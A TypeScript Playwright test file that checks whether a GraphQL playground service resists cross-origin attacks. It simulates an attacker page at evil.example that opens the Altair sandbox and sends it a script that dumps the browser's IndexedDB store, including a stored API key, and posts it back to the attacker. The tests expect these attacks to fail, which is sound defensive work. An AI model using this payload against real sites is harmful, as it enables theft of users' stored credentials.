import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { isWithoutBrowser, openProfile } from '../support/pages/chromium.ts';
import { BASE } from '../support/pages/link-page.ts';
import { startService } from '../support/service.ts';

const KEY = 'the-key-that-the-victim-works-with';
const EVIL = 'http://evil.example';

const service = await startService({ baseUrl: BASE, playgroundHeaders: { 'X-SERVICE-CLIENT-ID': KEY } });

/** A script that reads all that the playground stores in its origin. */
const READ = `
const done = (request) => new Promise((resolve) => { request.onsuccess = () => resolve(request.result); });
const database = await done(indexedDB.open('AltairDB'));
const stores = [...database.objectStoreNames];
const rows = stores.map((store) => done(database.transaction(store).objectStore(store).getAll()));
const stored = JSON.stringify(await Promise.all(rows));
database.close();`;

const TELL = `${READ} window.opener.postMessage(location.origin + stored, '*');`;

/** The profile of somebody who has worked in the playground with a key, which it stores to show it again. */
async function victim(): Promise<BrowserContext> {
  const profile = await openProfile(service);
  const page = await profile.newPage();
  await page.goto('/graphql');
  await page.getByText('Send Request').waitFor();
  await page.waitForFunction(`(async () => { ${READ} return stored.includes('${KEY}'); })()`);
  return profile;
}

/** A page of an attacker who lures the victim into a click that opens `path`. */
async function lure(profile: BrowserContext, path: string): Promise<{ evil: Page; opened: Page }> {
  await profile.route(`${EVIL}/**`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<button onclick="opened = window.open('${BASE}${path}')">Kittens</button>
        <script>onmessage = ({ data }) => { stolen = data }; stolen = null;</script>`,
    }),
  );
  const evil = await profile.newPage();
  await evil.goto(EVIL);
  const popup = profile.waitForEvent('page');
  await evil.getByRole('button').click();
  const opened = await popup;
  await opened.waitForLoadState();
  return { evil, opened };
}

describe.skipIf(isWithoutBrowser)('a page of another origin and the key that the playground stores', () => {
  test('opens the sandbox of Altair and has it run a script → there is none', {
    tags: ['attack/page-another-origin-opens'],
  }, async () => {
    const { evil, opened } = await lure(
      await victim(),
      `/graphql/playground/iframe-sandbox/index.html?sc=${encodeURIComponent(EVIL)}`,
    );
    expect(await opened.evaluate('location.origin')).toBe(BASE);
    const status = await opened.evaluate('fetch(location.href).then(({ status }) => status)');
    if (status === 200) {
      const message = JSON.stringify({ type: 'init_execute', payload: [TELL, {}] });
      await evil.evaluate(`opened.postMessage(${message}, '*')`);
      await evil.waitForFunction('stolen');
    }
    expect({ status, stolen: await evil.evaluate('stolen') }).toEqual({ status: 404, stolen: null });
  });

  test.each(['/graphql', '/docs', '/rebook/nobody'])(
    'opens %s → keeps no handle to it',
    { tags: ['attack/page-another-origin-opens'] },
    async (path) => {
      const { evil } = await lure(await openProfile(service), path);
      expect(await evil.evaluate('opened.closed')).toBe(true);
    },
  );

  test.each(['/graphql', '/docs'])(
    'gets a script into the markup of %s → it is not run',
    { tags: ['attack/page-another-origin-opens'] },
    async (path) => {
      const page = await (await openProfile(service)).newPage();
      await page.goto(path);
      // Chromium 150 refuses the handler without the event securitypolicyviolation
      const script = await page.evaluate(`(() => {
        document.body.insertAdjacentHTML('beforeend', '<b onclick="window.hasRun = true">Kittens</b>');
        const kittens = document.body.lastElementChild;
        kittens.click();
        return { handler: kittens.onclick, hasRun: window.hasRun ?? false };
      })()`);
      expect(script).toEqual({ handler: null, hasRun: false });
    },
  );
});
